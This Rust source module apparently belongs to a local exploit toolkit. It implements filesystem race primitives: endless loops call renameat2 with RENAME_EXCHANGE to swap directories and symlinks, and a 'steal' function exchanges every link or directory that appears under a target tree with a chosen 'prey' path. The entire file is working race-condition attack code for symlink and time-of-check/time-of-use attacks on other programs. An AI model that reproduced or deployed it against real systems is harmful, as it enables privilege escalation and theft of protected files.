//! The swapper: a directory is a link the next moment, and a directory again.

use std::os::unix::fs::symlink;

use crate::system::*;

/// Swaps a directory against a link to another one, all the time.
pub fn swap(directory: &str, other: &str) -> ! {
    let link = format!("{directory}.link");
    // As soon as it may.
    while symlink(other, &link).is_err() {}
    exchange(directory, &link)
}

/// Gives each link, or each directory, that appears below the directories of a directory the place of a prey.
pub fn steal(directory: &str, prey: &str) -> ! {
    let takes_links = std::fs::metadata(prey).unwrap().is_file();
    say("stealing");
    loop {
        for folder in std::fs::read_dir(directory).into_iter().flatten().flatten() {
            for found in std::fs::read_dir(folder.path()).into_iter().flatten().flatten() {
                if found.file_type().is_ok_and(|kind| if takes_links { kind.is_symlink() } else { kind.is_dir() })
                    && let Some(path) = found.path().to_str()
                {
                    let (one, other) = (c(path), c(prey));
                    // RENAME_EXCHANGE.
                    unsafe { syscall(SYS_RENAMEAT2, -100_i64, one.as_ptr(), -100_i64, other.as_ptr(), 2_i64) };
                }
            }
        }
    }
}

/// Has two files change places, all the time.
pub fn exchange(one: &str, other: &str) -> ! {
    let (one, other) = (c(one), c(other));
    loop {
        // RENAME_EXCHANGE, both from the working directory.
        unsafe { syscall(SYS_RENAMEAT2, -100_i64, one.as_ptr(), -100_i64, other.as_ptr(), 2_i64) };
    }
}
